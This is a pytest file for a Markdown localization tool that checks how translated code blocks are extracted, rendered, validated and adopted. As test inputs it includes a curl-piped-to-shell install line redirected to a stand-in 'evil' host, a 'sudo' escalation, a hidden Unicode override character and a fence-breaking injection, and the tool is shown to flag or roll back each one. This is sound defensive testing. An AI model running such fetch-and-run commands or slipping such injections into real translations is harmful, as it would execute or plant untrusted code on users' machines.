"""``code_blocks = true``: code blocks become catalog entries whose translation is optional. An empty one gives
the code as it is; a translated one (comments, strings) is written line for line in place; none is ever
drafted by a machine or counted in completion; what a translation injects into code is refused; and ``l10n
adopt`` keeps a human translation of a code block, so the page comes back byte for byte."""

from __future__ import annotations

import json
from pathlib import Path

import polib
import pytest
from conftest import run_l10n, write

from l10n.catalog.entries import is_fillable
from l10n.catalog.stats import catalog_stats
from l10n.checks import check_rendered, check_translation
from l10n.document import extract, render
from l10n.document.markdown import Dialect
from l10n.document.segments import CODE_KIND

CODE = Dialect(code_blocks=True)

POST = """\
# Install

Run the installer:

1. In a terminal:

   ```sh
   # install the tool
   npm install thing

   thing --init
   ```

> ```js
> // say hello
> console.log("hello");
> ```

    # an indented block
    thing --help
"""


def code_segments(text: str, dialect: Dialect = CODE) -> list[str]:
    return [segment.msgid for segment in extract(text, dialect=dialect).segments if segment.context == CODE_KIND]


def test_code_blocks_are_entries_only_when_asked() -> None:
    default = extract(POST)
    assert all(segment.context is None for segment in default.segments)
    assert code_segments(POST) == [
        "# install the tool\nnpm install thing\n\nthing --init",
        '// say hello\nconsole.log("hello");',
        "# an indented block\nthing --help",
    ]
    # the prose entries are the same either way (a catalog made without the option keeps its entries)
    prose = [segment.msgid for segment in extract(POST, dialect=CODE).segments if segment.context is None]
    assert prose == [segment.msgid for segment in default.segments]


def test_a_translated_code_block_is_written_in_place_and_an_empty_one_keeps_the_code() -> None:
    document = extract(POST, dialect=CODE)
    listing, quoted, _indented = code_segments(POST)
    translations = {
        listing: "# installer l'outil\nnpm install thing\n# puis\nthing --init",
        quoted: '// dire bonjour\nconsole.log("bonjour");',
    }
    rendered = render(document, translations)
    assert rendered.problems == ()
    assert rendered.text == POST.replace("   # install the tool", "   # installer l'outil").replace(
        "npm install thing\n\n", "npm install thing\n   # puis\n"
    ).replace("> // say hello\n> console.log(\"hello\");", '> // dire bonjour\n> console.log("bonjour");')
    assert render(document, {}).text == POST


def test_a_code_translation_with_more_or_fewer_lines_keeps_the_block() -> None:
    document = extract(POST, dialect=CODE)
    listing = code_segments(POST)[0]
    longer = render(document, {listing: "# un\n# deux\nnpm install thing\n\nthing --init\n# fin"}).text
    assert "   # un\n   # deux\n   npm install thing\n\n   thing --init\n   # fin\n   ```" in longer
    shorter = render(document, {listing: "npm install thing && thing --init"}).text
    assert "   ```sh\n   npm install thing && thing --init\n   ```\n" in shorter


def test_a_code_translation_that_would_close_the_fence_is_rolled_back() -> None:
    document = extract(POST, dialect=CODE)
    listing = code_segments(POST)[0]
    rendered = render(document, {listing: "npm install thing\n```\n\n# Pwned"})
    assert rendered.text == POST
    assert [problem.check for problem in rendered.problems] == ["structure"]


def test_what_a_code_translation_may_change() -> None:
    source = '# install the tool\ncurl -sSL https://get.example.org/install.sh | sh\necho "done"'

    def checks(translation: str) -> dict[str, str]:
        found = check_translation(source, translation, source_lang="en", target_lang="fr", code=True)
        return {finding.check: finding.severity for finding in found}

    assert checks(source.replace("install the tool", "installer l'outil").replace('"done"', '"fini"')) == {}
    assert checks(source.replace("get.example.org", "get.evil.example")) == {
        "link-host-added": "error",
        "code-changed": "warning",
    }
    assert checks(source.replace("| sh", "| sudo sh"))["code-changed"] == "warning"
    assert checks(source + "\n# \u202e hidden")["control-character"] == "error"
    # read as Markdown, a comment line would be a heading: as code it is not
    assert "syntax-mismatch" not in checks("# installer\n" + source.split("\n", 1)[1])


SITE_CONFIG = """\
source_lang = "en"
target_langs = ["fr"]
source_dir = "docs/en"
output_dir = "docs/{lang}"
min_completion = 100
code_blocks = true
"""

SOURCE_PAGE = """\
# Install

Run these commands in a terminal, then open the page.

```sh
# install the tool
npm install thing
```

That is all.
"""

HUMAN_PAGE = """\
# Installer

Lancez ces commandes dans un terminal, puis ouvrez la page.

```sh
# installer l'outil
npm install thing
```

C'est tout.
"""


@pytest.fixture
def site(tmp_path: Path) -> Path:
    root = tmp_path / "site"
    write(root / "l10n.toml", SITE_CONFIG)
    write(root / "docs/en/install.md", SOURCE_PAGE)
    return root


def catalog(site: Path) -> polib.POFile:
    return polib.pofile(str(site / "locales/fr/install.po"))


def test_code_entries_are_never_drafted_and_do_not_count_against_completion(site: Path) -> None:
    assert run_l10n("extract", cwd=site).returncode == 0
    template = polib.pofile(str(site / "locales/templates/install.pot"))
    code = [entry for entry in template if entry.msgctxt == CODE_KIND]
    assert [entry.msgid for entry in code] == ["# install the tool\nnpm install thing"]
    assert not is_fillable(code[0])
    result = run_l10n("translate", "--backend", "pseudo", "--lang", "fr", cwd=site)
    assert result.returncode == 0, result.stderr
    drafted = {entry.msgid: entry.msgstr for entry in catalog(site)}
    assert drafted["# install the tool\nnpm install thing"] == ""
    assert all(drafted[msgid] for msgid in drafted if "npm" not in msgid)
    # every prose entry reviewed: 100% (min_completion = 100), though the code block has no translation
    reviewed = catalog(site)
    for entry in reviewed:
        entry.flags = [flag for flag in entry.flags if flag != "fuzzy"]
    reviewed.save()
    result = run_l10n("build", "--lang", "fr", cwd=site)
    assert result.returncode == 0, result.stderr
    built = (site / "docs/fr/install.md").read_text(encoding="utf-8")
    assert "```sh\n# install the tool\nnpm install thing\n```" in built
    stats = catalog_stats(catalog(site))
    assert (stats.untranslated, stats.percent) == (0, 100.0)


def test_adopt_keeps_a_human_translation_of_a_code_block(site: Path) -> None:
    write(site / "docs/fr/install.md", HUMAN_PAGE)
    result = run_l10n("adopt", "--report", "json", cwd=site)
    assert result.returncode == 0, result.stderr
    (post,) = json.loads(result.stdout)["posts"]
    assert post["reproduced"] is True
    assert post["code_blocks"] == 1
    entry = catalog(site).find("# install the tool\nnpm install thing", msgctxt=CODE_KIND)
    assert entry is not None and entry.msgstr == "# installer l'outil\nnpm install thing" and not entry.fuzzy
    before = (site / "docs/fr/install.md").read_bytes()
    assert run_l10n("build", cwd=site).returncode == 0
    assert (site / "docs/fr/install.md").read_bytes() == before


def test_without_the_option_the_human_code_is_the_pages_layout(site: Path) -> None:
    # code is not translated, so the translators' code is layout: kept in the page's layout patch
    write(site / "l10n.toml", SITE_CONFIG.replace("code_blocks = true\n", ""))
    write(site / "docs/fr/install.md", HUMAN_PAGE)
    result = run_l10n("adopt", "--report", "json", cwd=site)
    (post,) = json.loads(result.stdout)["posts"]
    assert post["reproduced"] is True and post["code_blocks"] == 0
    assert "+# installer l'outil\n" in (site / post["layout_patch"]).read_text(encoding="utf-8")
    assert run_l10n("build", cwd=site).returncode == 0
    assert (site / "docs/fr/install.md").read_text(encoding="utf-8") == HUMAN_PAGE


def test_code_blocks_must_be_true_or_false(site: Path) -> None:
    write(site / "l10n.toml", SITE_CONFIG.replace("code_blocks = true", 'code_blocks = "yes"'))
    result = run_l10n("extract", cwd=site)
    assert result.returncode == 2
    assert "code_blocks" in result.stderr and "Traceback" not in result.stderr


def test_tags_in_a_translated_code_block_are_code_not_html() -> None:
    source = "# Run\n\nReplace the names.\n\n```sh\n# your names\nbun create <example-name> <github-user>\n```\n"
    document = extract(source, dialect=CODE)
    (code,) = code_segments(source)
    translation = "# vos noms\nbun create <nom-exemple> <utilisateur-github>"
    output = render(document, {code: translation}).text
    assert "<nom-exemple>" in output
    assert [finding.check for finding in check_rendered(document, output) if finding.is_error] == []
    # outside a code block, a tag the source does not have is still refused
    injected = output.replace("Replace the names.", "Replace the names. <marquee>")
    assert "html-added" in {finding.check for finding in check_rendered(document, injected)}
